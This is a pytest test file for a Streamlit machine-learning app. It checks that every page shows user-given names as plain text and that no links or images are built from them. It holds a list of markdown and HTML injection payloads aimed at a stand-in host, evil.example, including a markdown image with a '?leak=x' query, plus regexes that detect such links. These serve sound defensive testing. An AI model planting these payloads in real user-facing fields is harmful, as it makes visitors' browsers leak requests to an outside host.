"""Names a user gives (classes, files, datasets, runs, uploaded weights) are shown as text on every page.

Streamlit renders markdown in titles, captions, alerts, widget labels, image captions and progress
texts, and Plotly renders a subset of HTML in figures: a dataset named "![z](https://HOST/?leak=x)"
made every visitor's browser fetch that address. Each page is driven here with such names, and no
link or image may come from them: not as markdown, not as an autolink, not as HTML.
"""
import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from google.protobuf.json_format import MessageToDict
from PIL import Image
from streamlit.testing.v1 import AppTest

from apptest_support import open_page, plain
from pages.ui import labels
from pages.ui.text import literal
from tl_core.models import backbones
from tl_core.data import datasets
from tl_core.ops import runs
from tl_core.config import RunConfig
from tl_core.data.sample_data import SAMPLE_DIR
from tl_core.ops.storage import atomic_write_json

pytestmark = pytest.mark.usefixtures("navigation_pages", "fake_jobs")

HOST = "evil.example"
HOSTILE = [
    f"![z](https://{HOST}/?leak=x).zip",
    f"[click](https://{HOST}/c)",
    f'<img src="https://{HOST}/i.png">',
    f'<a href="https://{HOST}/a">a</a>',
    f"https://{HOST}/auto www.{HOST} me@{HOST}",
    f"<https://{HOST}/angle> :red[red] $x^2$ **bold** :material/home:",
    f"two\n# lines [n](https://{HOST}/n)",
]
# What would make a link or an image in GitHub-flavoured markdown, or in HTML, pointing at HOST.
MARKDOWN_LINK = re.compile(rf"(?i)\]\([^)]*{HOST}|https?:/+{HOST}|www\.{HOST}|[\w.+-]@{HOST}|(?<!\\)<[^>]*{HOST}")
HTML_LINK = re.compile(rf"(?i)<(a|img)\b[^>]*{HOST}")
# Proto fields that Streamlit shows as plain text (select options, code, typed values), not markdown.
PLAIN_FIELDS = {"options", "default", "value", "rawValue", "rawValues", "formattedOptions", "codeText", "data",
                "id", "formId", "spec", "body_html"}


def _nodes(node):
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _nodes(child)


def _strings(value, key=""):
    if isinstance(value, dict):
        for k, v in value.items():
            if k not in PLAIN_FIELDS:
                yield from _strings(v, k)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v, key)
    elif isinstance(value, str):
        yield key, value


def rendered(at: AppTest) -> tuple[list[str], list[str]]:
    """(every markdown-rendered string of the page and its sidebar, every Plotly figure as JSON)."""
    texts, figures = [], []
    for node in _nodes(at._tree):
        proto = getattr(node, "proto", None)
        if proto is None or not hasattr(proto, "DESCRIPTOR"):
            continue
        as_dict = MessageToDict(proto)
        if getattr(node, "type", "") == "html":
            continue  # the app's own frame guard, never user text
        figures += [as_dict["spec"]] if "spec" in as_dict else []
        texts += [text for _, text in _strings(as_dict)]
    return texts, figures


def assert_no_link_from_names(at: AppTest) -> list[str]:
    assert not at.exception, at.exception
    texts, figures = rendered(at)
    for text in texts:
        assert not MARKDOWN_LINK.search(text), f"a link or image from a user's name: {text!r}"
    for spec in figures:
        for value in _json_strings(json.loads(spec)):
            assert not HTML_LINK.search(value), f"an HTML link in a figure: {value!r}"
    return [plain(text) for text in texts]


def _json_strings(value):
    if isinstance(value, dict):
        for k, v in value.items():
            if k != "customdata":  # data for click handlers; shown only through a template's escaped fields
                yield from _json_strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _json_strings(v)
    elif isinstance(value, str):
        yield value


def shown(texts: list[str], name: str) -> bool:
    return any(" ".join(name.split()) in text for text in texts)


@pytest.fixture
def hostile_dataset() -> datasets.Dataset:
    """A data set whose name, class names and file names are all hostile."""
    pngs = sorted((SAMPLE_DIR / "Bag").glob("*.png"))
    files = [(f"{HOSTILE[k % len(HOSTILE)]}{i}.png", pngs[k * 3 + i].read_bytes(), HOSTILE[k])
             for k in range(3) for i in range(3)]
    return datasets.ingest_files(files, name=HOSTILE[0])


def hostile_run(dataset: datasets.Dataset, name: str, weights: str = "embedded") -> Path:
    """A finished run (as the worker leaves it) named `name`, trained on `dataset`."""
    run_dir = runs.create_run(RunConfig(dataset_dir=str(dataset.root), epochs=2, name=name, weights=weights))
    classes = dataset.classes
    events = [{"t": 1.0, "event": "fit_start", "epochs": 2, "classes": classes},
              *({"t": 1.0 + e, "event": "epoch_end", "phase": "probe", "epoch": e, "train_loss": 1.0, "val_loss": 1.0,
                 "train_acc": 0.5, "val_acc": 0.5, "seconds": 1.0} for e in (1, 2)),
              {"t": 4.0, "event": "notice", "message": f"a notice quoting {HOSTILE[1]}"}]
    (run_dir / "events.jsonl").write_text("".join(json.dumps(e) + "\n" for e in events))
    labels = [dataset.classes[k] for k in dataset.labels()]
    with open(run_dir / "predictions.csv", "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["path", "label", "predicted", "confidence"])
        for path, label in zip(dataset.paths(), labels):
            writer.writerow([path, label, classes[(classes.index(label) + 1) % len(classes)], 0.9])
    atomic_write_json(run_dir / "metrics.json", {
        "val_acc": 0.5, "val_loss": 1.0, "macro_f1": 0.5, "classes": classes,
        "per_class": {c: {"precision": 0.5, "recall": 0.5, "f1": 0.5, "support": 3} for c in classes},
        "confusion": [[1 if i == j else 1 for j in range(len(classes))] for i in range(len(classes))],
        "best_epoch": 2, "epochs_run": 2, "wall_s": 2.0, "images_per_s": 10.0, "device": "CPU"})
    runs.write_status(run_dir, state="done", ended=2.0)
    return run_dir


def test_every_page_shows_hostile_names_as_text(hostile_dataset, _workspace):
    weights = backbones.store_uploaded_weights(f"{HOSTILE[1]}.safetensors", b"not read here", _workspace)
    first, second = hostile_run(hostile_dataset, HOSTILE[3], str(weights)), hostile_run(hostile_dataset, HOSTILE[4])
    state = dict(dataset_dir=str(hostile_dataset.root), run_dir=str(first), weights=str(weights),
                 image_size=64, image_size_backbone=backbones.EMBEDDED_MODEL)

    at = open_page(None, **state)  # 1 · Backbone, with the sidebar
    texts = assert_no_link_from_names(at)
    assert shown(texts, labels.dataset_label(hostile_dataset)) and shown(texts, HOSTILE[3])

    at = open_page("pages/2_Data.py", **state)
    at.text_input(key="webcam_class").set_value(HOSTILE[2])
    at.text_input(key="class_name_0").set_value(HOSTILE[5]).run()
    photo = io.BytesIO()
    Image.open(sorted((SAMPLE_DIR / "Bag").glob("*.png"))[0]).convert("RGB").save(photo, "JPEG")
    at.camera_input(key="webcam_shot").set_value(("shot.jpg", photo.getvalue(), "image/jpeg")).run()
    texts = assert_no_link_from_names(at)
    assert shown(texts, f"Check: {HOSTILE[0]}") and shown(texts, f"Keep this picture as '{HOSTILE[2]}'")
    assert shown(texts, f"Images of {HOSTILE[5]}")

    for page in ("pages/3_Layers.py", "pages/4_Train.py", "pages/5_Results.py"):
        at = open_page(page, **state)
        texts = assert_no_link_from_names(at)
        assert shown(texts, HOSTILE[3]), page  # the run's name, in the sidebar at least
    assert any(plain(caption) for image in at.image for caption in image.captions)
    cell = [text for text in texts if " predicted as " in text]  # the chosen cell of the confusion matrix
    assert cell and any(" ".join(name.split()) in cell[0] for name in HOSTILE[:3])

    at = open_page("pages/8_Runs.py", **state, runs_compare=[str(first), str(second)])
    assert_no_link_from_names(at)
    assert len(at.get("plotly_chart")) == 3


def test_predict_and_export_show_hostile_class_and_file_names_as_text(head_run, _workspace):
    run_dir = Path(shutil.copytree(head_run, _workspace / "runs" / head_run.name))
    old = json.loads((run_dir / "labels.json").read_text())["classes"]
    rename = dict(zip(old, HOSTILE))
    atomic_write_json(run_dir / "labels.json", {"classes": [rename[c] for c in old]})
    metrics = json.loads((run_dir / "metrics.json").read_text())
    metrics["classes"] = [rename[c] for c in metrics["classes"]]
    metrics["per_class"] = {rename[c]: v for c, v in metrics["per_class"].items()}
    atomic_write_json(run_dir / "metrics.json", metrics)

    at = open_page("pages/6_Predict.py", predict_top_k=4)
    photo = io.BytesIO()
    Image.open(sorted((SAMPLE_DIR / "Bag").glob("*.png"))[0]).convert("RGB").save(photo, "PNG")
    at.file_uploader(key="predict_uploads").set_value([(f"{HOSTILE[6]}.png", photo.getvalue(), "image/png"),
                                                       (f"{HOSTILE[0]}.txt", b"not an image", "text/plain")])
    at.run()
    texts = assert_no_link_from_names(at)
    assert any(text.startswith(" ".join(HOSTILE[6].split())) for text in texts)  # the upload's name as a header
    assert len(at.get("progress")) == 4

    at = open_page("pages/7_Export.py")
    at.radio(key="export_format").set_value("safetensors").run()
    at.button(key="export_start").click().run()
    texts = assert_no_link_from_names(at)
    assert at.code and HOSTILE[0] in at.code[0].value  # the model card, as text


@pytest.mark.parametrize("name, expected", [
    (f"[x](https://{HOST}/a)", f"\\[x\\]\\(https\\:\u2060\\/\\/{HOST.replace('.', chr(92) + '.')}\\/a\\)"),
    ("a\nb", "a b"),
    ("plain_name-1", "plain\\_name\\-1"),
])
def test_literal_escapes_markup_and_breaks_autolinks(name, expected):
    assert literal(name) == expected
    assert plain(literal(name)) == " ".join(name.split())
